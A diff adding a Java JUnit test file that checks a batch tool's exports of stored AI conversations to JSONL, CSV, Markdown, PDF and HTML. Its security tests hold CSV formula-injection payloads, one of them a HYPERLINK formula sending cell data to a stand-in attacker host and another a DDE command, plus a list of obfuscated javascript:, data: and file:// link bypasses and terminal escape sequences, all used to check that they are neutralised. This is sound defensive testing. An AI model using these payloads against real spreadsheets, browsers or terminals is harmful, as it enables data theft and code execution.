@@ -1,0 +1,386 @@
+package dev.dmrbatch.export;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+
+import dev.dmrbatch.conversation.Conversation;
+import dev.dmrbatch.conversation.ConversationStore;
+import dev.dmrbatch.conversation.RunRecord;
+import dev.dmrbatch.input.InputItem;
+import dev.dmrbatch.input.InputReaders;
+import dev.dmrbatch.input.InputSource;
+import dev.dmrbatch.support.TestProperties;
+import org.apache.pdfbox.Loader;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.text.PDFTextStripper;
+import org.flywaydb.core.Flyway;
+import org.h2.jdbcx.JdbcDataSource;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import tools.jackson.databind.json.JsonMapper;
+
+import org.springframework.batch.infrastructure.item.ExecutionContext;
+import org.springframework.batch.infrastructure.item.ItemStreamReader;
+import org.springframework.jdbc.core.JdbcTemplate;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** Every export read back and compared with what the store holds. */
+class ExportsTest {
+
+	private static final JsonMapper JSON = JsonMapper.builder().build();
+
+	static final String MARKDOWN_ANSWER = """
+			# Findings
+
+			Some **bold words** and *italic ones*, then a list:
+
+			- first, with a comma
+			- second — with a dash
+
+			`inline code` and non-ASCII: café, über, it’s, Привет мир, Ελληνικά.""";
+
+	static final String PLAIN_ANSWER = "plain, with \"quotes\"\nand a second line";
+
+	@TempDir
+	Path dir;
+
+	ConversationStore store;
+
+	Exports exports;
+
+	RunRecord run;
+
+	@BeforeEach
+	void setUp() {
+		JdbcDataSource data = new JdbcDataSource();
+		data.setURL("jdbc:h2:mem:" + this.dir.getFileName() + ";DB_CLOSE_DELAY=-1");
+		data.setUser("sa");
+		Flyway.configure().dataSource(data).locations("classpath:db/migration/common", "classpath:db/migration/h2").load().migrate();
+		this.store = new ConversationStore(new JdbcTemplate(data));
+		this.exports = new Exports(this.store, TestProperties.home(this.dir));
+		this.run = new RunRecord(7, "extract", "first", "input/items.csv", this.dir.resolve("out").toString(),
+				"{\"name\":\"ai/tiny\",\"max_tokens\":64}", Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(this.run);
+		Conversation ok = new Conversation(1, "a,1", "ai/tiny", Conversation.OK, null,
+				List.of(new Conversation.Turn("system", null, "Be brief."),
+						new Conversation.Turn("user", "summary", "Summarize \"this\", please:\nline two"),
+						new Conversation.Turn("assistant", "summary", MARKDOWN_ANSWER),
+						new Conversation.Turn("user", "keywords", "Keywords?"),
+						new Conversation.Turn("assistant", "keywords", PLAIN_ANSWER)),
+				List.of(new Conversation.Call(0, "summary", "stop", 30, 40, 12, 1, null, null, null),
+						new Conversation.Call(1, "keywords", "length", 50, 8, 9, 2, null, null, null)));
+		Conversation failed = new Conversation(2, "b", "ai/tiny", Conversation.FAILED,
+				"variable 'title' is missing in template summarize.ftl line 3", List.of(), List.of());
+		this.store.saveAll(7, List.of(ok, failed));
+	}
+
+	private Path out(String file) {
+		return this.dir.resolve("out").resolve(file);
+	}
+
+	@Test
+	void aRunLongerThanOnePageIsExportedWholeAndInOrder() throws Exception {
+		// given: record numbers across three pages, with a gap at the page boundary (blank lines are not stored)
+		RunRecord big = new RunRecord(8, "big", null, "input/big.csv", this.dir.resolve("big").toString(), null,
+				Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(big);
+		List<Conversation> conversations = new ArrayList<>();
+		for (long seq = 1; seq <= 2100; seq++) {
+			if (seq == 1000 || seq == 1001) {
+				continue;
+			}
+			conversations.add(new Conversation(seq, "i" + seq, "ai/tiny", Conversation.OK, null,
+					List.of(new Conversation.Turn("user", "answer", "q" + seq),
+							new Conversation.Turn("assistant", "answer", "a" + seq)),
+					List.of(new Conversation.Call(0, "answer", "stop", 1, 1, 1, 1, null, null, null))));
+		}
+		this.store.saveAll(8, conversations);
+
+		// when
+		this.exports.write(big, List.of("jsonl"));
+
+		// then
+		List<String> lines = Files.readAllLines(this.dir.resolve("big/results.jsonl"));
+		assertThat(lines).hasSize(2098);
+		assertThat(lines).extracting((line) -> JSON.readValue(line, Map.class).get("id"))
+			.startsWith("i1", "i2")
+			.contains("i999", "i1002", "i2000")
+			.endsWith("i2100")
+			.doesNotHaveDuplicates();
+		assertThat(JSON.readValue(lines.get(1500), Map.class).get("steps")).isEqualTo(Map.of("answer", "a1503"));
+	}
+
+	@Test
+	@SuppressWarnings("unchecked")
+	void everyFormatHoldsEveryItemAsTheStoreHasIt() throws Exception {
+		List<Path> files = this.exports.write(this.run, List.of("jsonl", "json", "markdown", "text", "csv", "pdf"));
+		assertThat(files).extracting((p) -> p.getFileName().toString())
+			.containsExactly("results.jsonl", "results.json", "results.md", "results.txt", "results.csv", "results.pdf");
+
+		// jsonl: one line per item, every field
+		List<String> lines = Files.readAllLines(out("results.jsonl"));
+		assertThat(lines).hasSize(2);
+		Map<String, Object> first = JSON.readValue(lines.get(0), Map.class);
+		assertThat(first).containsEntry("id", "a,1").containsEntry("status", "ok").containsEntry("model", "ai/tiny");
+		assertThat((Map<String, Object>) first.get("steps")).containsEntry("summary", MARKDOWN_ANSWER)
+			.containsEntry("keywords", PLAIN_ANSWER);
+		assertThat((List<Map<String, String>>) first.get("messages")).hasSize(5)
+			.element(1)
+			.isEqualTo(Map.of("role", "user", "content", "Summarize \"this\", please:\nline two"));
+		assertThat((Map<String, Object>) first.get("usage")).containsEntry("prompt_tokens", 80)
+			.containsEntry("completion_tokens", 48);
+		Map<String, Object> second = JSON.readValue(lines.get(1), Map.class);
+		assertThat(second).containsEntry("status", "failed")
+			.containsEntry("error", "variable 'title' is missing in template summarize.ftl line 3");
+
+		// json: the run's facts and the same items
+		Map<String, Object> json = JSON.readValue(out("results.json").toFile(), Map.class);
+		assertThat((Map<String, Object>) json.get("run")).containsEntry("job", "extract")
+			.containsEntry("run", "first")
+			.containsEntry("items", 2)
+			.containsEntry("ok", 1)
+			.containsEntry("failed", 1)
+			.containsEntry("prompt_tokens", 80)
+			.containsEntry("model", Map.of("name", "ai/tiny", "max_tokens", 64));
+		assertThat((List<Object>) json.get("items")).containsExactly(first, second);
+
+		// csv: parsed back by an RFC 4180 reader, cell by cell
+		ItemStreamReader<InputItem> csv = InputReaders.reader(new InputSource("csv", out("results.csv"), "id", "csv"));
+		csv.open(new ExecutionContext());
+		List<InputItem> rows = new ArrayList<>();
+		for (InputItem row = csv.read(); row != null; row = csv.read()) {
+			rows.add(row);
+		}
+		csv.close();
+		assertThat(rows).hasSize(2);
+		assertThat(rows.get(0).error()).isNull();
+		assertThat(rows.get(0).fields()).containsEntry("id", "a,1")
+			.containsEntry("summary", MARKDOWN_ANSWER)
+			.containsEntry("keywords", PLAIN_ANSWER)
+			.containsEntry("prompt_tokens", "80")
+			.containsEntry("completion_tokens", "48");
+		assertThat(rows.get(1).fields()).containsEntry("status", "failed")
+			.containsEntry("error", "variable 'title' is missing in template summarize.ftl line 3")
+			.containsEntry("summary", "");
+		assertThat(Files.readAllBytes(out("results.csv"))).startsWith(0xEF, 0xBB, 0xBF);
+
+		// markdown and text: the prompts, the answers and the failure, readable
+		String markdown = Files.readString(out("results.md"));
+		assertThat(markdown).startsWith("# extract — run first")
+			.contains("## a,1")
+			.contains("Summarize \"this\", please:\nline two")
+			.contains(MARKDOWN_ANSWER)
+			.contains("## b — failed")
+			.contains("variable 'title' is missing");
+		assertThat(Files.readString(out("results.txt"))).contains("==== a,1 (ok, ai/tiny)")
+			.contains(PLAIN_ANSWER)
+			.contains("ERROR: variable 'title' is missing");
+
+		// pdf: every answer's text, non-ASCII as itself, Markdown laid out rather than printed
+		try (PDDocument pdf = Loader.loadPDF(out("results.pdf").toFile())) {
+			String text = new PDFTextStripper().getText(pdf);
+			assertThat(text).contains("extract run first")
+				.contains("Findings")
+				.contains("Some bold words and italic ones, then a list:")
+				.contains("first, with a comma")
+				.contains("inline code")
+				.contains("café, über, it’s, Привет мир, Ελληνικά.")
+				.contains("plain, with \"quotes\"")
+				.contains("variable 'title' is missing in template summarize.ftl line 3")
+				.contains("page 1")
+				.doesNotContain("**")
+				.doesNotContain("?????");
+		}
+	}
+
+	@Test
+	void anEmptyRunsJsonlIsAnEmptyFile() throws Exception {
+		RunRecord empty = new RunRecord(9, "empty", null, "input/none.jsonl", this.dir.resolve("empty").toString(), null,
+				Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(empty);
+		this.exports.write(empty, List.of("jsonl"));
+		assertThat(this.dir.resolve("empty/results.jsonl")).isEmptyFile();
+
+		this.exports.write(this.run, List.of("jsonl"));
+		assertThat(Files.readString(out("results.jsonl"))).endsWith("}\n").doesNotEndWith("\n\n");
+	}
+
+	@Test
+	void aLayoutInTheWorkingFolderReplacesTheBuiltInOne() throws Exception {
+		Path layout = this.dir.resolve("templates/export/results.md.ftl");
+		Files.createDirectories(layout.getParent());
+		Files.writeString(layout, """
+				<#macro header run>Run ${run.run} of ${run.job}
+				</#macro>
+				<#macro item c>* ${c.id}: ${c.status}<#if c.steps.keywords??> / ${c.steps.keywords?replace("\\n", " ")}</#if>
+				</#macro>
+				<#macro footer run>(${run.items})
+				</#macro>
+				""");
+		Exports custom = new Exports(this.store, TestProperties.home(this.dir));
+		custom.write(this.run, List.of("markdown"));
+		assertThat(Files.readString(out("results.md"))).isEqualTo("""
+				Run first of extract
+				* a,1: ok / plain, with "quotes" and a second line
+				* b: failed
+				(2)
+				""");
+	}
+
+	@Test
+	@SuppressWarnings("unchecked")
+	void csvCellsThatASpreadsheetWouldEvaluateAreWrittenAsTextAndJsonKeepsThemExact() throws Exception {
+		// given: an id, an error, answers and a prompt that a spreadsheet would take for formulas
+		List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
+				"-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1");
+		RunRecord risky = new RunRecord(9, "risky", null, "input/items.csv", this.dir.resolve("risky").toString(), null,
+				Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(risky);
+		List<Conversation> conversations = new ArrayList<>();
+		for (int i = 0; i < formulas.size(); i++) {
+			String formula = formulas.get(i);
+			conversations.add(new Conversation(i + 1, formula + i, "ai/tiny", Conversation.FAILED, formula,
+					List.of(new Conversation.Turn("user", "answer", formula), new Conversation.Turn("assistant", "answer", formula)),
+					List.of(new Conversation.Call(0, "answer", "stop", 1, 1, 1, 1, null, null, null))));
+		}
+		this.store.saveAll(9, conversations);
+
+		// when
+		this.exports.write(risky, List.of("csv", "jsonl"));
+
+		// then: every such cell is quoted and starts with a single quote, read back as the value behind that quote
+		String raw = Files.readString(this.dir.resolve("risky/results.csv"));
+		for (String formula : formulas) {
+			assertThat(raw).contains("\"'" + formula.replace("\"", "\"\"")).doesNotContain("," + formula);
+		}
+		ItemStreamReader<InputItem> csv = InputReaders
+			.reader(new InputSource("csv", this.dir.resolve("risky/results.csv"), "id", "csv"));
+		csv.open(new ExecutionContext());
+		List<InputItem> rows = new ArrayList<>();
+		for (InputItem row = csv.read(); row != null; row = csv.read()) {
+			rows.add(row);
+		}
+		csv.close();
+		assertThat(rows).hasSize(formulas.size());
+		for (int i = 0; i < formulas.size(); i++) {
+			String formula = formulas.get(i);
+			assertThat(rows.get(i).fields()).containsEntry("id", "'" + formula + i)
+				.containsEntry("error", "'" + formula)
+				.containsEntry("answer", "'" + formula);
+		}
+		// and JSON Lines keeps every value exact
+		List<String> lines = Files.readAllLines(this.dir.resolve("risky/results.jsonl"));
+		for (int i = 0; i < formulas.size(); i++) {
+			Map<String, Object> item = JSON.readValue(lines.get(i), Map.class);
+			assertThat(item).containsEntry("id", formulas.get(i) + i).containsEntry("error", formulas.get(i));
+			assertThat((Map<String, Object>) item.get("steps")).containsEntry("answer", formulas.get(i));
+		}
+	}
+
+	/** Links that filters on the written text miss: entities, case, controls and blanks in the scheme. */
+	static final List<String> LINK_BYPASSES = List.of("[a](&#106;avascript:alert(1))", "[b](&#x6A;avascript:alert(1))",
+			"[c](&#0000106avascript:alert(1))", "[d](JaVaScRiPt:alert(1))", "[e](jav&#x09;ascript:alert(1))",
+			"[f](java&#x0A;script:alert(1))", "[g](java&Tab;script:alert(1))", "[h](<java script:alert(1)>)",
+			"[i](<\u0001javascript:alert(1)>)", "[j](&#32;javascript:alert(1))", "<javascript:alert(1)>",
+			"<JAVASCRIPT:alert(1)>", "[k](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+			"[l](&#100;ata:text/html,x)", "[m](DaTa:text/html,x)", "[n](vbscript:msgbox(1))", "[o](&#118;bscript:x)",
+			"[p](VBScript:x)", "[q][ref]\n\n[ref]: &#106;avascript:alert(1)", "[r](file:///etc/passwd)",
+			"[s](javascript&colon;alert(1))", "[t](jav\tascript:alert(1))", "![u](javascript:alert(1))",
+			"<a href=\"jav&#x09;ascript:alert(1)\">v</a>", "<a href=\"&#106;avascript:alert(1)\">w</a>",
+			"<img src=\"javascript:alert(1)\">", "[x](ftp://example.com/file)");
+
+	@Test
+	void reportLinksKeepOnlyAllowedSchemesWhateverTheirSpelling() throws Exception {
+		// given: answers and a prompt with links that must die, and the kinds that must live
+		RunRecord links = new RunRecord(10, "links", null, "input/items.csv", this.dir.resolve("links").toString(), null,
+				Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(links);
+		List<Conversation> conversations = new ArrayList<>();
+		String all = String.join("\n\n", LINK_BYPASSES);
+		List<String> answers = new ArrayList<>(LINK_BYPASSES);
+		answers.add(all);
+		answers.add("[web](https://example.com/a?b=1) [plain](http://example.com) [mail](mailto:a@example.com) "
+				+ "[page](other.html#part) [top](#top)");
+		for (int i = 0; i < answers.size(); i++) {
+			conversations.add(new Conversation(i + 1, "i" + i, "ai/tiny", Conversation.OK, null,
+					List.of(new Conversation.Turn("user", "answer", all), new Conversation.Turn("assistant", "answer", answers.get(i))),
+					List.of(new Conversation.Call(0, "answer", "stop", 1, 1, 1, 1, null, null, null))));
+		}
+		this.store.saveAll(10, conversations);
+
+		// when
+		this.exports.write(links, List.of("html"));
+
+		// then: read as a browser reads it, no link or source has a scheme outside http, https and mailto
+		org.jsoup.nodes.Document report = org.jsoup.Jsoup.parse(this.dir.resolve("links/report.html").toFile());
+		List<String> urls = new ArrayList<>();
+		for (org.jsoup.nodes.Element element : report.select("[href], [src], [action], [formaction], [xlink:href]")) {
+			for (org.jsoup.nodes.Attribute attribute : element.attributes()) {
+				if (List.of("href", "src", "action", "formaction", "xlink:href").contains(attribute.getKey())) {
+					urls.add(attribute.getValue());
+				}
+			}
+		}
+		assertThat(urls).isNotEmpty().allSatisfy((url) -> {
+			// what browsers do with a URL before they read its scheme
+			String seen = url.replaceAll("[\\t\\n\\r]", "").replaceAll("^[\\x00-\\x20]+", "").toLowerCase();
+			java.util.regex.Matcher scheme = java.util.regex.Pattern.compile("^([a-z][a-z0-9+.-]*):").matcher(seen);
+			if (scheme.find()) {
+				assertThat(scheme.group(1)).as(url).isIn("http", "https", "mailto");
+			}
+		});
+		assertThat(urls).contains("https://example.com/a?b=1", "http://example.com", "mailto:a@example.com",
+				"other.html#part", "#top");
+		assertThat(report.select(".answer").select("img, iframe, object, embed, form, svg, math, style")).isEmpty();
+		assertThat(report.select(".answer")).hasSize(answers.size());
+	}
+
+	@Test
+	@SuppressWarnings("unchecked")
+	void textExportsShowControlCharactersAsEscapesAndJsonKeepsThemExact() throws Exception {
+		// given: an id, a prompt, an answer and an error holding ESC, BEL and NUL
+		String hostile = "clear\u001b[2J\u001b]0;title\u0007 nul\u0000 end";
+		RunRecord controls = new RunRecord(11, "controls", null, "input/items.csv",
+				this.dir.resolve("controls").toString(), null, Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(controls);
+		this.store.saveAll(11, List.of(
+				new Conversation(1, "id-" + hostile, "ai/tiny", Conversation.OK, null,
+						List.of(new Conversation.Turn("user", "answer", "prompt " + hostile),
+								new Conversation.Turn("assistant", "answer", "answer " + hostile + "\nsecond\tline")),
+						List.of(new Conversation.Call(0, "answer", "stop", 1, 1, 1, 1, null, null, null))),
+				new Conversation(2, "two", "ai/tiny", Conversation.FAILED, "error " + hostile, List.of(), List.of())));
+
+		// when
+		this.exports.write(controls, List.of("jsonl", "markdown", "text"));
+
+		// then
+		String shown = "clear\\u001b[2J\\u001b]0;title\\u0007 nul\\u0000 end";
+		for (String file : List.of("results.txt", "results.md")) {
+			String text = Files.readString(this.dir.resolve("controls").resolve(file));
+			assertThat(text).as(file)
+				.doesNotContain("\u001b", "\u0007", "\u0000")
+				.contains("id-" + shown, "prompt " + shown, "answer " + shown + "\nsecond\tline", "error " + shown);
+		}
+		List<String> lines = Files.readAllLines(this.dir.resolve("controls/results.jsonl"));
+		Map<String, Object> first = JSON.readValue(lines.get(0), Map.class);
+		assertThat(first).containsEntry("id", "id-" + hostile);
+		assertThat((Map<String, Object>) first.get("steps")).containsEntry("answer", "answer " + hostile + "\nsecond\tline");
+		assertThat(JSON.readValue(lines.get(1), Map.class)).containsEntry("error", "error " + hostile);
+	}
+
+	@Test
+	void csvQuotingFollowsRfc4180() {
+		assertThat(CsvExporter.quote("plain")).isEqualTo("plain");
+		assertThat(CsvExporter.quote("a,b")).isEqualTo("\"a,b\"");
+		assertThat(CsvExporter.quote("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
+		assertThat(CsvExporter.quote("two\nlines")).isEqualTo("\"two\nlines\"");
+		assertThat(CsvExporter.quote(" padded")).isEqualTo("\" padded\"");
+	}
+
+}
